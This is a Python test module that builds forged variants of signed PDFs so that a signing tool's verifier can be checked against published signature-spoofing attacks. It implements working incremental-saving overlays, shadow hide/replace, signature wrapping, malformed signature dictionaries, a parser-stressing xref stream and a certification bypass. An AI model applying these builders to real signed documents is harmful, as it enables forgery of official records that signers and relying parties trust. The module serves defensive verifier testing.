"""Crafted attack files on signed PDFs, generated at test time from documents kyso signs.

One builder per variant of each class in the literature on PDF signature spoofing (Mladenov et
al., "1 Trillion Dollar Refund", CCS 2019: incremental saving, signature wrapping; "Shadow
Attacks", NDSS 2021; "Breaking the Specification: PDF Certification", S&P 2021: evil annotation,
sneaky signature) and of the malformed signature dictionaries a verifier meets. Every builder
takes the bytes of a signed file and returns the attacked bytes; nothing here knows kyso's
verifier. `ATTACKS` names each variant and the signed base it starts from.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass

__all__ = ["ATTACKS", "Attack", "certify", "fill_text_field", "hidden_overlay_pdf", "sign_into_field",
           "signature_spans"]

_HELVETICA = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica", "/Encoding": "/WinAnsiEncoding"}


# --- pyhanko's incremental writer, for structural changes ------------------------------------------

def _writer(data: bytes):
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    return IncrementalPdfFileWriter(io.BytesIO(data), strict=False)


def _finish(writer) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer, index: int = 0):
    ref, _ = writer.find_page_for_modification(index)
    return ref, ref.get_object()


def _font(writer):
    from pyhanko.pdf_utils import generic

    return writer.add_object(generic.DictionaryObject({generic.NameObject(k): generic.NameObject(v)
                                                       for k, v in _HELVETICA.items()}))


def _appearance(writer, width: float, height: float, text: str, *, white: bool = True):
    """A form XObject: a white box (hiding what is under it) with `text` on it."""
    from pyhanko.pdf_utils import generic

    body = b"q 1 1 1 rg 0 0 %.1f %.1f re f Q " % (width, height) if white else b""
    escaped = text.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    body += b"BT 0 0 0 rg /F1 11 Tf 4 %.1f Td (%s) Tj ET" % (height / 2 - 4, escaped)
    stream = generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject([generic.FloatObject(v) for v in (0, 0, width, height)]),
        generic.NameObject("/Resources"): generic.DictionaryObject({
            generic.NameObject("/Font"): generic.DictionaryObject({generic.NameObject("/F1"): _font(writer)})}),
    }, stream_data=body)
    return writer.add_object(stream)


def _acroform(writer):
    from pyhanko.pdf_utils import generic

    root = writer.root
    if "/AcroForm" not in root:
        root[generic.NameObject("/AcroForm")] = writer.add_object(
            generic.DictionaryObject({generic.NameObject("/Fields"): generic.ArrayObject()}))
        writer.update_root()
    form = root["/AcroForm"]
    raw = root.raw_get("/AcroForm")
    if isinstance(raw, generic.IndirectObject):
        writer.mark_update(raw)
    else:
        writer.update_root()
    return form


def _add_widget_field(writer, entries: dict, *, rect: tuple[float, float, float, float], text: str | None,
                      page_index: int = 0):
    """A field merged with its widget, on the page and in the form; returns its reference."""
    from pyhanko.pdf_utils import generic

    page_ref, page = _page(writer, page_index)
    field = generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
        generic.NameObject("/F"): generic.NumberObject(4),
        generic.NameObject("/P"): page_ref,
        generic.NameObject("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in rect]),
        **entries,
    })
    if text is not None:
        ap = _appearance(writer, rect[2] - rect[0], rect[3] - rect[1], text)
        field[generic.NameObject("/AP")] = generic.DictionaryObject({generic.NameObject("/N"): ap})
    ref = writer.add_object(field)
    _append_annot(writer, page_ref, page, ref)
    form = _acroform(writer)
    fields = form.raw_get("/Fields")
    if isinstance(fields, generic.IndirectObject):
        writer.mark_update(fields)
        fields = fields.get_object()
    fields.append(ref)
    return ref


def _append_annot(writer, page_ref, page, ref) -> None:
    from pyhanko.pdf_utils import generic

    annots = page.raw_get("/Annots") if "/Annots" in page else None
    if isinstance(annots, generic.IndirectObject):
        writer.mark_update(annots)
        annots.get_object().append(ref)
    elif annots is None:
        page[generic.NameObject("/Annots")] = generic.ArrayObject([ref])
    else:
        annots.append(ref)
    writer.mark_update(page_ref)


def _name(value: str):
    from pyhanko.pdf_utils import generic

    return generic.NameObject(value)


def _string(value: str):
    from pyhanko.pdf_utils import generic

    return generic.TextStringObject(value)


# --- incremental saving (ISA) ----------------------------------------------------------------------

def unsigned_signature_field(data: bytes) -> bytes:
    """An empty signature field whose appearance says it was signed (nothing signs it)."""
    w = _writer(data)
    _add_widget_field(w, {_name("/FT"): _name("/Sig"), _name("/T"): _string("Chu ky 2")},
                      rect=(320, 90, 540, 150), text="Da ky: Tran Van Gia - 03/12/2026")
    return _finish(w)


def _fake_signature_value(writer, subfilter: str, contents: bytes = b"\x30\x03\x02\x01\x01"):
    from pyhanko.pdf_utils import generic

    return writer.add_object(generic.DictionaryObject({
        _name("/Type"): _name("/Sig"),
        _name("/Filter"): _name("/Adobe.PPKLite"),
        _name("/SubFilter"): _name(subfilter),
        _name("/Contents"): generic.ByteStringObject(contents),
        _name("/ByteRange"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 100, 200, 100)]),
        _name("/Name"): _string("Tran Van Gia"),
    }))


def unknown_subfilter_signature(subfilter: str) -> Callable[[bytes], bytes]:
    def build(data: bytes) -> bytes:
        w = _writer(data)
        value = _fake_signature_value(w, subfilter)
        _add_widget_field(w, {_name("/FT"): _name("/Sig"), _name("/T"): _string("Chu ky 2"), _name("/V"): value},
                          rect=(320, 90, 540, 150), text="Da ky: Tran Van Gia")
        return _finish(w)
    return build


def text_field_overlay(data: bytes) -> bytes:
    """A text field laid over the signed document number, its appearance hiding the original."""
    w = _writer(data)
    _add_widget_field(w, {_name("/FT"): _name("/Tx"), _name("/T"): _string("so"),
                          _name("/V"): _string("So: 999/QD-VKSTC"), _name("/Ff"): __import__(
                              "pyhanko.pdf_utils.generic", fromlist=["NumberObject"]).NumberObject(1)},
                      rect=(40, 735, 260, 770), text="So: 999/QD-VKSTC")
    return _finish(w)


def annotation_overlay(subtype: str) -> Callable[[bytes], bytes]:
    """A FreeText / Stamp / Square annotation with an appearance over signed content."""
    def build(data: bytes) -> bytes:
        from pyhanko.pdf_utils import generic

        w = _writer(data)
        page_ref, page = _page(w)
        rect = (40, 700, 300, 770)
        annot = generic.DictionaryObject({
            _name("/Type"): _name("/Annot"), _name("/Subtype"): _name(subtype),
            _name("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in rect]),
            _name("/F"): generic.NumberObject(4), _name("/P"): page_ref,
            _name("/Contents"): _string("So: 999/QD-VKSTC"),
            _name("/AP"): generic.DictionaryObject({_name("/N"): _appearance(w, 260, 70, "So: 999/QD-VKSTC")}),
        })
        if subtype == "/FreeText":
            annot[_name("/DA")] = _string("/Helv 11 Tf 0 g")
        _append_annot(w, page_ref, page, w.add_object(annot))
        return _finish(w)
    return build


def content_replaced(data: bytes) -> bytes:
    """The page's content stream replaced by another text."""
    from pyhanko.pdf_utils import generic

    w = _writer(data)
    page_ref, page = _page(w)
    font = _font(w)
    resources = page["/Resources"]
    fonts = resources.get("/Font", generic.DictionaryObject())
    fonts[_name("/FX")] = font
    resources[_name("/Font")] = fonts
    page[_name("/Resources")] = resources
    page[_name("/Contents")] = w.add_object(generic.StreamObject(
        stream_data=b"BT /FX 24 Tf 72 700 Td (QUYET DINH GIA MAO) Tj ET"))
    w.mark_update(page_ref)
    return _finish(w)


def content_appended(data: bytes) -> bytes:
    """A second content stream after the signed one, covering the number with a new one."""
    from pyhanko.pdf_utils import generic

    w = _writer(data)
    page_ref, page = _page(w)
    contents = page.raw_get("/Contents")
    existing = list(contents.get_object()) if isinstance(contents.get_object(), generic.ArrayObject) else [contents]
    xobject = _appearance(w, 220, 35, "So: 999/QD-VKSTC")
    resources = page["/Resources"]
    xobjects = resources.get("/XObject", generic.DictionaryObject())
    xobjects[_name("/Fx9")] = xobject
    resources[_name("/XObject")] = xobjects
    page[_name("/Resources")] = resources
    extra = w.add_object(generic.StreamObject(stream_data=b"q 1 0 0 1 40 735 cm /Fx9 Do Q"))
    page[_name("/Contents")] = generic.ArrayObject([*existing, extra])
    w.mark_update(page_ref)
    return _finish(w)


def font_redefined(data: bytes) -> bytes:
    """Shadow replace: every font of the page's resources redefined (same names, other glyphs)."""
    from pyhanko.pdf_utils import generic

    w = _writer(data)
    page_ref, page = _page(w)
    resources = page["/Resources"]
    fonts = resources["/Font"]
    replacement = _font(w)
    for key in list(fonts.keys()):
        fonts[key] = replacement
    resources[_name("/Font")] = fonts
    page[_name("/Resources")] = resources
    w.mark_update(page_ref)
    return _finish(w)


def page_removed_added(data: bytes) -> bytes:
    """A page appended to the document after signing."""
    from pyhanko.pdf_utils import generic

    w = _writer(data)
    pages_ref = w.root.raw_get("/Pages")
    pages = pages_ref.get_object()
    new_page = w.add_object(generic.DictionaryObject({
        _name("/Type"): _name("/Page"), _name("/Parent"): pages_ref,
        _name("/MediaBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 595, 842)]),
        _name("/Resources"): generic.DictionaryObject({_name("/Font"): generic.DictionaryObject(
            {_name("/F1"): _font(w)})}),
        _name("/Contents"): w.add_object(generic.StreamObject(stream_data=b"BT /F1 18 Tf 72 720 Td (Phu luc gia) Tj ET")),
    }))
    pages["/Kids"].append(new_page)
    pages[_name("/Count")] = generic.NumberObject(int(pages["/Count"]) + 1)
    w.mark_update(pages_ref)
    return _finish(w)


def object_overridden_raw(data: bytes) -> bytes:
    """The page object itself rewritten by a hand-made update (classic xref, no pyhanko)."""
    number, generation, body = _first_page_object(data)
    new_stream_number = _next_number(data)
    body = re.sub(rb"/Contents\s+(\d+\s+\d+\s+R|\[[^\]]*\])", b"/Contents %d 0 R" % new_stream_number, body, count=1)
    content = b"BT /F1 20 Tf 72 700 Td (Noi dung bi thay) Tj ET"
    return _append_update(data, {
        (number, generation): body,
        (new_stream_number, 0): b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
    })


# --- after %%EOF, the trailer's /Info -----------------------------------------------------------------

def trailing(junk: bytes) -> Callable[[bytes], bytes]:
    def build(data: bytes) -> bytes:
        return data + junk
    return build


def trailer_repeated(data: bytes) -> bytes:
    """Junk, then a copy of the last startxref and %%EOF: the tail looks like a proper ending."""
    last = re.findall(rb"startxref\s+(\d+)", data)[-1]
    return data + b"\n% ghi chu cua ke tan cong: so 999/QD-VKSTC\nstartxref\n" + last + b"\n%%EOF\n"


def info_changed_raw(data: bytes) -> bytes:
    """A hand-made update giving the trailer a new /Info (title, author)."""
    number = _next_number(data)
    return _append_update(data, {(number, 0): b"<< /Title (Quyet dinh so 999) /Author (Tran Van Gia) >>"},
                          extra_trailer=b"/Info %d 0 R " % number)


def info_overridden_raw(data: bytes) -> bytes:
    """A hand-made update rewriting the existing /Info object itself (same number)."""
    number, generation = (int(v) for v in re.findall(rb"/Info\s+(\d+)\s+(\d+)\s+R", data)[-1])
    return _append_update(data, {(number, generation): b"<< /Title (Quyet dinh so 999) /Producer (kyso) >>"})


# --- shadow attacks (the attacker prepared the document the victim signed) ------------------------------

def hidden_overlay_pdf(data: bytes) -> bytes:
    """Shadow hide, preparation: an overlay annotation already in the document, hidden (/F 2)."""
    from pyhanko.pdf_utils import generic

    w = _writer(data)
    page_ref, page = _page(w)
    annot = generic.DictionaryObject({
        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Square"),
        _name("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in (40, 700, 300, 770)]),
        _name("/F"): generic.NumberObject(2), _name("/P"): page_ref, _name("/NM"): _string("shadow"),
        _name("/AP"): generic.DictionaryObject({_name("/N"): _appearance(w, 260, 70, "So: 999/QD-VKSTC")}),
    })
    _append_annot(w, page_ref, page, w.add_object(annot))
    return _finish(w)


def shadow_reveal(data: bytes) -> bytes:
    """Shadow hide, attack: the hidden overlay made visible (/F 2 → /F 4) in a later update."""
    from pyhanko.pdf_utils import generic

    w = _writer(data)
    _, page = _page(w)
    for ref in page["/Annots"]:
        annot = ref.get_object()
        if annot.get("/NM") == "shadow":
            annot[_name("/F")] = generic.NumberObject(4)
            w.mark_update(ref)
    return _finish(w)


def shadow_replace_appearance(data: bytes) -> bytes:
    """Shadow replace: the prepared overlay's appearance stream object overwritten."""
    from pyhanko.pdf_utils import generic

    w = _writer(data)
    _, page = _page(w)
    for ref in page["/Annots"]:
        annot = ref.get_object()
        if annot.get("/NM") == "shadow":
            ap_ref = annot["/AP"].raw_get("/N")
            w.objects[(ap_ref.idnum, ap_ref.generation)] = generic.StreamObject(
                dict(ap_ref.get_object()), stream_data=b"q 1 1 1 rg 0 0 260 70 re f Q")
            w.mark_update(ap_ref)
            annot[_name("/F")] = generic.NumberObject(4)
            w.mark_update(ref)
    return _finish(w)


# --- signature wrapping (SWA) ----------------------------------------------------------------------

def signature_spans(data: bytes) -> list[tuple[int, int, int, int, int]]:
    """(start of /ByteRange's value, its end, a, b, c, d …) for each signature dictionary, in file order."""
    out = []
    for match in re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data):
        out.append((match.start(), match.end(), *(int(v) for v in match.groups())))
    return out


def _rewrite_byte_range(data: bytes, index: int, values: tuple[int, int, int, int]) -> bytes:
    start, end, *_ = signature_spans(data)[index]
    new = b"/ByteRange[%d %d %d %d]" % values
    if len(new) > end - start:
        raise ValueError("byte range does not fit")
    return data[:start] + new.ljust(end - start) + data[end:]


def swa_relocated(data: bytes) -> bytes:
    """Signature wrapping: the signed bytes after /Contents moved to the end, a forged revision
    put where they were, and a copy of the signature dictionary pointing its /ByteRange at the
    moved bytes — the hash over the ranges is unchanged."""
    _, _, a, b, c, d = signature_spans(data)[-1]
    head, contents, tail = data[:b], data[b:c], data[c:c + d]
    forged = content_replaced(data)[len(data):]  # a forged update made against the original
    filler = b"\n" + forged
    new_c = len(head) + len(contents) + len(filler)
    moved = head + contents + filler + tail
    return _rewrite_byte_range(moved, -1, (a, b, new_c, d))


def swa_gap_widened(data: bytes) -> bytes:
    """/ByteRange leaves more than /Contents out of the hash (the digest no longer matches)."""
    _, _, a, b, c, d = signature_spans(data)[-1]
    return _rewrite_byte_range(data, -1, (a, b - 40, c + 40, d - 40))


def swa_ranges_overlap(data: bytes) -> bytes:
    _, _, a, b, c, d = signature_spans(data)[-1]
    return _rewrite_byte_range(data, -1, (a, c + 10, c, d))


def swa_beyond_eof(data: bytes) -> bytes:
    _, _, a, b, c, d = signature_spans(data)[-1]
    return _rewrite_byte_range(data, -1, (a, b, c, d + 500))


def swa_dictionary_copied(data: bytes) -> bytes:
    """The field's /V replaced by a copy of its signature dictionary, in an update that also
    replaces the page's content (a "reused or moved" signature dictionary)."""
    from pyhanko.pdf_utils import generic

    forged = content_replaced(data)
    w = _writer(forged)
    for ref in w.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/FT") == "/Sig" and "/V" in field:
            copy = generic.DictionaryObject(dict(field["/V"]))
            field[_name("/V")] = w.add_object(copy)
            w.mark_update(ref)
    return _finish(w)


# --- malformed signature dictionaries --------------------------------------------------------------

_MALFORMED = {"missing": None, "empty": b"<>", "null": b"null", "zero": b"0", "wrong-type": b"/Contents"}


def malformed_in_place(key: str, kind: str) -> Callable[[bytes], bytes]:
    """The (last) signature dictionary's /Contents or /ByteRange missing, empty, null, zero or of
    the wrong type, rewritten in place with the same length."""
    def build(data: bytes) -> bytes:
        start, end, a, b, c, d = signature_spans(data)[-1]
        if key == "/ByteRange":
            span = (start, end)
        else:
            span = (b, c)  # the hex string itself
        replacement = _MALFORMED[kind]
        if key == "/Contents":
            # the key's name sits just before the value
            name_at = data.rfind(b"/Contents", 0, b)
            span = (name_at, c)
            new = b"" if replacement is None else b"/Contents " + replacement
        else:
            new = b"" if replacement is None else b"/ByteRange " + (b"[]" if kind == "empty" else replacement)
        return data[:span[0]] + new.ljust(span[1] - span[0]) + data[span[1]:]
    return build


def malformed_added(key: str, kind: str) -> Callable[[bytes], bytes]:
    """A second signature field added by an update, its /V malformed in `key` (`kind`)."""
    def build(data: bytes) -> bytes:
        from pyhanko.pdf_utils import generic

        w = _writer(data)
        value = _fake_signature_value(w, "/ETSI.CAdES.detached", b"\x30\x80" + b"\0" * 30)
        sig = value.get_object()
        if kind == "missing":
            del sig[_name(key)]
        elif kind == "empty":
            sig[_name(key)] = generic.ByteStringObject(b"") if key == "/Contents" else generic.ArrayObject()
        elif kind == "null":
            sig[_name(key)] = generic.NullObject()
        elif kind == "zero":
            sig[_name(key)] = generic.NumberObject(0)
        else:
            sig[_name(key)] = _name("/Sai")
        _add_widget_field(w, {_name("/FT"): _name("/Sig"), _name("/T"): _string("Chu ky hong"), _name("/V"): value},
                          rect=(320, 90, 540, 150), text=None)
        return _finish(w)
    return build


def huge_xref_index(data: bytes) -> bytes:
    """An update whose cross-reference stream declares /Index [0 99999999] (a few bytes of data)."""
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    root = re.findall(rb"/Root\s+(\d+\s+\d+\s+R)", data)[-1]
    number = _next_number(data)
    offset = len(data) + 1
    entries = b"\x01\x00\x00\x00" * 4
    body = (b"\n%d 0 obj\n<< /Type /XRef /Size 99999999 /Index [0 99999999] /W [1 2 1] /Root %s /Prev %d "
            b"/Length %d >>\nstream\n" % (number, root, previous, len(entries)) + entries + b"\nendstream\nendobj\n")
    return data + body + b"startxref\n%d\n%%%%EOF\n" % offset


# --- certification (DocMDP) -------------------------------------------------------------------------

def certify(data: bytes, *, key_pem, cert_der: bytes, chain: tuple[bytes, ...], permission: int,
            field: str = "Chung nhan", empty_field: str | None = None) -> bytes:
    """`data` certified by pyhanko with DocMDP P=`permission`; with `empty_field`, an empty
    signature field prepared for a later signer in the same revision."""
    from pyhanko.sign import fields, signers

    w = _writer(data)
    if empty_field:
        fields.append_signature_field(w, fields.SigFieldSpec(empty_field, box=(320, 160, 540, 220)))
    meta = signers.PdfSignatureMetadata(field_name=field, certify=True, subfilter=fields.SigSeedSubFilter.PADES,
                                        docmdp_permissions=fields.MDPPerm(permission))
    out = io.BytesIO()
    signers.PdfSigner(meta, _simple_signer(key_pem, cert_der, chain),
                      new_field_spec=fields.SigFieldSpec(field, box=(60, 60, 260, 120))).sign_pdf(w, output=out)
    return out.getvalue()


def sign_into_field(data: bytes, *, key_pem, cert_der: bytes, chain: tuple[bytes, ...], field: str,
                    new_box: tuple[int, int, int, int] | None = None) -> bytes:
    """An approval signature by pyhanko into `field` (existing, or new at `new_box`)."""
    from pyhanko.sign import fields, signers

    meta = signers.PdfSignatureMetadata(field_name=field, subfilter=fields.SigSeedSubFilter.PADES)
    spec = fields.SigFieldSpec(field, box=new_box) if new_box else None
    out = io.BytesIO()
    pdf_signer = signers.PdfSigner(meta, _simple_signer(key_pem, cert_der, chain), new_field_spec=spec)
    pdf_signer._enforce_certification_constraints = lambda reader: None  # an attacker's tool does not
    pdf_signer.sign_pdf(_writer(data), output=out)
    return out.getvalue()


def _simple_signer(key_pem, cert_der, chain):
    from asn1crypto import keys, x509
    from cryptography.hazmat.primitives import serialization
    from pyhanko.sign import signers
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    private = serialization.load_pem_private_key(key_pem.read_bytes(), password=None)
    der = private.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
                                serialization.NoEncryption())
    return signers.SimpleSigner(signing_cert=x509.Certificate.load(cert_der), signing_key=keys.PrivateKeyInfo.load(der),
                                cert_registry=SimpleCertificateStore.from_certs([x509.Certificate.load(d) for d in chain]))


def fill_text_field(data: bytes, *, name: str, value: str) -> bytes:
    """Form filling: the existing text field `name` gets `value` and a matching appearance."""
    w = _writer(data)
    for ref in w.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == name:
            field[_name("/V")] = _string(value)
            rect = [float(v) for v in field["/Rect"]]
            field[_name("/AP")] = __import__("pyhanko.pdf_utils.generic", fromlist=["DictionaryObject"]).DictionaryObject(
                {_name("/N"): _appearance(w, rect[2] - rect[0], rect[3] - rect[1], value)})
            w.mark_update(ref)
    return _finish(w)


# --- raw helpers -----------------------------------------------------------------------------------

def _next_number(data: bytes) -> int:
    return max(int(n) for n in re.findall(rb"(?m)^(\d+)\s+\d+\s+obj\b", data)) + 100


def _first_page_object(data: bytes) -> tuple[int, int, bytes]:
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data), strict=False)
    ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = ref.get_object()
    parts = []
    for key, value in page.items():
        raw = page.raw_get(key)
        buffer = io.BytesIO()
        raw.write_to_stream(buffer)
        parts.append(key.encode() + b" " + buffer.getvalue())
    del value
    return ref.idnum, ref.generation, b"<< " + b" ".join(parts) + b" >>"


def _append_update(data: bytes, objects: dict[tuple[int, int], bytes], *, extra_trailer: bytes = b"") -> bytes:
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    root = re.findall(rb"/Root\s+(\d+\s+\d+\s+R)", data)[-1]
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets = {}
    for (number, generation), body in sorted(objects.items()):
        offsets[number] = (len(out), generation)
        out += b"%d %d obj\n" % (number, generation) + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for number in sorted(offsets):
        offset, generation = offsets[number]
        out += b"%d 1\n%010d %05d n \n" % (number, offset, generation)
    size = max(_next_number(data), max(offsets) + 1)
    out += b"trailer\n<< /Size %d /Root %s /Prev %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, previous, extra_trailer, xref)
    return bytes(out)


@dataclass(frozen=True)
class Attack:
    """One variant: its class, the signed base it starts from and how it is built."""

    name: str
    family: str
    base: str
    build: Callable[[bytes], bytes]


def _variants() -> list[Attack]:
    out = [
        Attack("isa-unsigned-signature-field", "incremental", "b-b", unsigned_signature_field),
        Attack("isa-unsigned-signature-field-bt", "incremental", "b-t", unsigned_signature_field),
        Attack("isa-unknown-subfilter-fake", "incremental", "b-b", unknown_subfilter_signature("/kyso.gia.mao")),
        Attack("isa-unknown-subfilter-x509", "incremental", "b-t", unknown_subfilter_signature("/adbe.x509.rsa_sha1")),
        Attack("isa-text-field-overlay", "incremental", "b-b", text_field_overlay),
        Attack("isa-text-field-overlay-lt", "incremental", "b-lt", text_field_overlay),
        Attack("isa-freetext-annotation", "incremental", "b-b", annotation_overlay("/FreeText")),
        Attack("isa-stamp-annotation", "incremental", "b-t", annotation_overlay("/Stamp")),
        Attack("isa-content-replaced", "incremental", "b-b", content_replaced),
        Attack("isa-content-appended", "incremental", "b-t", content_appended),
        Attack("isa-content-appended-lta", "incremental", "b-lta", content_appended),
        Attack("isa-page-added", "incremental", "b-b", page_removed_added),
        Attack("isa-page-overridden-raw", "incremental", "b-b", object_overridden_raw),
        Attack("eof-comment", "trailing", "b-b", trailing(b"\n% So: 999/QD-VKSTC\n")),
        Attack("eof-binary", "trailing", "b-t", trailing(bytes(range(256)) * 4)),
        Attack("eof-object", "trailing", "b-lt", trailing(b"\n999 0 obj\n<< /Title (Gia mao) >>\nendobj\n")),
        Attack("eof-junk-then-eof", "trailing", "b-b", trailing(b"\n% them vao\n%%EOF\n")),
        Attack("eof-trailer-repeated", "trailing", "b-b", trailer_repeated),
        Attack("info-changed-raw", "info", "b-b", info_changed_raw),
        Attack("info-overridden-raw", "info", "b-lt", info_overridden_raw),
        Attack("shadow-hide-reveal", "shadow", "shadow", shadow_reveal),
        Attack("shadow-replace-appearance", "shadow", "shadow", shadow_replace_appearance),
        Attack("shadow-replace-font", "shadow", "b-b", font_redefined),
        Attack("swa-gap-widened", "wrapping", "b-b", swa_gap_widened),
        Attack("swa-ranges-overlap", "wrapping", "b-t", swa_ranges_overlap),
        Attack("swa-beyond-eof", "wrapping", "b-b", swa_beyond_eof),
        Attack("swa-dictionary-copied", "wrapping", "b-b", swa_dictionary_copied),
        Attack("xref-huge-index", "parser", "b-b", huge_xref_index),
    ]
    for key in ("/Contents", "/ByteRange"):
        for kind in _MALFORMED:
            label = key.strip("/").lower()
            out.append(Attack(f"malformed-{label}-{kind}", "malformed", "b-b", malformed_in_place(key, kind)))
            out.append(Attack(f"malformed-added-{label}-{kind}", "malformed", "b-t", malformed_added(key, kind)))
    return out


ATTACKS: tuple[Attack, ...] = tuple(_variants())
